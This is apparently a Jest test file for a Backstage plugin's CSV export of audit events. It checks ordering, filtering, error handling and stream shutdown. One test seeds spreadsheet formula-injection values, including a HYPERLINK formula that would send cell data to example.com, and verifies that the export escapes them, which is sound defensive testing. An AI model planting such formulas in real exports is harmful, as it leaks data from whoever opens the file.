import { mockCredentials, mockServices } from '@backstage/backend-test-utils';
import { parse } from 'csv-parse/sync';
import { get } from 'node:http';
import { startChanging, type Changing } from '../__testUtils__/changes';
import { seedAlert } from '../__testUtils__/seed';
import { ENGINES, testDatabases } from '../database/__testUtils__/engines';

jest.setTimeout(60_000);

const databases = testDatabases();

describe.each(ENGINES)('the exported trail on %s', engine => {
  const logger = mockServices.logger.mock();
  const asSomebody = {
    Authorization: mockCredentials.user.header(),
  };
  let changing: Changing;

  beforeAll(async () => {
    logger.child.mockReturnValue(logger);
    changing = await startChanging(databases, engine, [logger.factory]);
  });
  afterAll(() => changing.guardrails.stop());

  const exported = async (query = {}) => {
    const response = await changing.guardrails.api
      .get('/api/guardrails/events.csv')
      .query(query);
    expect([response.status, response.type]).toEqual([200, 'text/csv']);
    return parse(response.text, { columns: true }) as Record<string, string>[];
  };

  it('is the trail, newest first, whole', async () => {
    const { database, project } = changing;
    await database.events.append(
      Array.from({ length: 2500 }, (_, i) => ({
        projectId: project.id,
        entityType: 'job' as const,
        eventType: 'cost_restated',
        message: `number ${i}`,
        actor: 'system',
        metadata: { number: i },
      })),
      new Date('2026-11-01T00:00:00Z'),
    );
    const rows = await exported({ eventType: 'cost_restated' });
    expect(rows.map(({ message }) => message)).toEqual(
      Array.from({ length: 2500 }, (_, i) => `number ${2499 - i}`),
    );
    expect(rows[0]).toMatchObject({
      createdAt: '2026-11-01T00:00:00.000Z',
      project: 'payments-api',
      entityType: 'job',
      entityId: '',
      actor: 'system',
      metadata: '{"number":2499}',
    });
  });

  it('holds what people wrote as text, whatever a spreadsheet would make of it', async () => {
    const { id } = await seedAlert(changing.database, changing.project);
    const note = 'two\nlines, "quoted"; ümläut 🙂';
    await changing.post(`/alerts/${id}/notes`, { note });
    await changing.database.events.append(
      [
        {
          projectId: changing.project.id,
          entityType: 'alert',
          entityId: id,
          eventType: 'note_added',
          message: '=HYPERLINK("http://example.com?"&A1)',
          actor: '@SUM(A1)',
          metadata: {},
        },
      ],
      new Date(),
    );
    const rows = await exported({ entityId: id });
    expect(rows[0]).toMatchObject({
      message: `'=HYPERLINK("http://example.com?"&A1)`,
      actor: `'@SUM(A1)`,
    });
    expect(JSON.parse(rows[1].metadata)).toEqual({ note });
  });

  it('ends without a word when whoever reads it leaves', async () => {
    const before = logger.error.mock.calls.length;
    const { statusCode, read } = await new Promise<{
      statusCode?: number;
      read: number;
    }>((resolve, reject) => {
      const sent = get(
        `${changing.guardrails.baseUrl}/api/guardrails/events.csv`,
        { headers: asSomebody },
        response => {
          response.once('data', (chunk: Buffer) => {
            response.destroy();
            resolve({ statusCode: response.statusCode, read: chunk.length });
          });
        },
      );
      sent.on('error', reject);
    });
    expect(statusCode).toBe(200);
    expect(read).toBeGreaterThan(0);
    // The next answer comes after the end of the one that was left.
    await exported({ to: '2020-01-01T00:00:00Z' });
    await exported({ eventType: 'cost_restated' });
    expect(logger.error.mock.calls.slice(before)).toEqual([]);
  });

  it('is that of a time when it is asked for', async () => {
    const rows = await exported({
      from: '2026-10-01T00:00:00Z',
      to: '2026-11-01T00:00:00Z',
    });
    expect(rows).toEqual([]);
  });

  it('is refused before it begins', async () => {
    const response = await changing.guardrails.api.get(
      '/api/guardrails/events.csv?project=nobody',
    );
    expect([response.status, response.body.error.name]).toEqual([
      404,
      'NotFoundError',
    ]);
  });

  it('is what the client hands over', async () => {
    const blob = await changing.guardrails.client.exportEvents({
      eventType: 'cost_restated',
    });
    expect((await blob.text()).split('\r\n')[0]).toBe(
      'createdAt,project,entityType,entityId,eventType,actor,message,metadata,id',
    );
  });
});
